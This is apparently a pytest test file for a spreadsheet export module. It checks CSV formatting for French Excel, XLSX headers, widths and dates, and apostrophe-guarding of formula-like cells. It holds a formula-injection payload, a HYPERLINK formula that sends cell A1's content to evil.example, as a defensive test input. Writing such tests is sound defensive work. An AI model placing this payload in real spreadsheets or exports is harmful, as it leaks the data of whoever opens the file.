"""A list written for a spreadsheet (``events.documents.tables``), read back by real readers:
Python's csv as French Excel reads the file (``;``, UTF-8 with its BOM), openpyxl for the XLSX;
and a text that a spreadsheet would run as a formula stays text in both."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from events.documents.tables import BOM, Column, Table, guarded, sheet_name, to_csv, to_xlsx

NOW = datetime(2026, 5, 4, 8, 0, tzinfo=UTC)
PARIS = ZoneInfo("Europe/Paris")
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1;"clic")'


def _table(*rows: list[Any]) -> Table:
    return Table(
        title={"fr": "Inscriptions", "en": "Registrations"},
        columns=[
            Column(fr="Nom", en="Name", width=30),
            Column(fr="Arrivée", en="Checked in", width=18),
            Column(fr="Rang", en="Position", width=8),
        ],
        rows=[list(row) for row in rows],
    )


def _read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_is_what_french_excel_opens_semicolons_utf8_with_bom_and_crlf() -> None:
    arrived = datetime(2026, 5, 4, 7, 35, tzinfo=UTC).astimezone(PARIS)
    table = _table(
        ["Zoé N'Diaye-Lefèvre; « dite Zouzou »", arrived, 2],
        ['Łukasz "Luke" Nowak\nsecond line', None, None],
    )
    content = to_csv(table, "fr")
    assert content.startswith(BOM)
    assert content.count(b"\r\n") == 3
    rows = _read_csv(content)
    assert rows == [
        ["Nom", "Arrivée", "Rang"],
        ["Zoé N'Diaye-Lefèvre; « dite Zouzou »", "04/05/2026 09:35", "2"],
        ['Łukasz "Luke" Nowak\nsecond line', "", ""],
    ]
    # Only the cells that need it are quoted.
    assert b"\"Zo\xc3\xa9 N'Diaye" in content
    assert b';"04/05/2026 09:35";' not in content
    english = _read_csv(to_csv(table, "en"))
    assert english[0] == ["Name", "Checked in", "Position"]
    assert english[1][1] == "2026-05-04 09:35"


@pytest.mark.parametrize(
    "text", [HOSTILE, "+33 6 12 34 56 78", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
)
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe_in_both_formats(text: str) -> None:
    table = _table([text, None, 1])
    assert _read_csv(to_csv(table, "fr"))[1][0] == "'" + text
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table, "fr", now=NOW))).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    # The stdlib's XML reads a carriage return as a line feed; lxml (openpyxl uses it when
    # installed) keeps it. Either way the apostrophe comes first.
    assert cell.value.replace("\r", "\n") == "'" + text.replace("\r", "\n")
    assert guarded("Zoé") == "Zoé"
    assert guarded("N'Diaye=") == "N'Diaye="


def test_the_hostile_name_is_no_formula_in_the_xlsx_xml() -> None:
    """openpyxl turns a text starting with "=" into a formula unless told otherwise."""
    content = to_xlsx(_table([HOSTILE, None, None]), "fr", now=NOW)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "HYPERLINK" in xml


def test_xlsx_has_a_bold_header_column_widths_and_real_dates() -> None:
    arrived = datetime(2026, 5, 4, 7, 35, tzinfo=UTC).astimezone(PARIS)
    table = Table(
        title={"fr": "Inscriptions: mai/juin [2026]", "en": "Registrations"},
        columns=[
            Column(fr="Nom", en="Name", width=30),
            Column(fr="Arrivée", en="Checked in", width=18),
            Column(fr="Jour", en="Day", width=12),
        ],
        rows=[["Zoé\x01 N'Diaye", arrived, date(2026, 5, 4)], ["Awa Diallo", None, None]],
    )
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(table, "fr", now=NOW)))
    sheet = book.active
    assert sheet.title == "Inscriptions  mai juin  2026"
    assert [c.value for c in sheet[1]] == ["Nom", "Arrivée", "Jour"]
    assert all(c.font.b for c in sheet[1])
    assert sheet.column_dimensions["A"].width == 30
    assert sheet.column_dimensions["B"].width == 18
    assert sheet.freeze_panes == "A2"
    # The wall time in the event's zone, as a date Excel computes with.
    assert sheet["B2"].value == datetime(2026, 5, 4, 9, 35, tzinfo=UTC).replace(tzinfo=None)
    assert sheet["B2"].is_date and sheet["B2"].number_format == "dd/mm/yyyy hh:mm"
    assert sheet["C2"].is_date and sheet["C2"].number_format == "dd/mm/yyyy"
    # A control character XML cannot hold is dropped, not a crash.
    assert sheet["A2"].value == "Zoé N'Diaye"
    assert sheet["A3"].value == "Awa Diallo" and sheet["B3"].value is None
    assert book.properties.created == NOW.replace(tzinfo=None)
    english = openpyxl.load_workbook(io.BytesIO(to_xlsx(table, "en", now=NOW))).active
    assert [c.value for c in english[1]] == ["Name", "Checked in", "Day"]
    assert english["B2"].number_format == "yyyy-mm-dd hh:mm"


def test_a_row_of_the_wrong_length_is_refused_and_a_sheet_name_is_what_excel_takes() -> None:
    with pytest.raises(ValueError, match="2 cells for 3 columns"):
        _table(["a", None])
    assert sheet_name("x" * 40) == "x" * 31
    assert sheet_name("[]") == "Sheet"
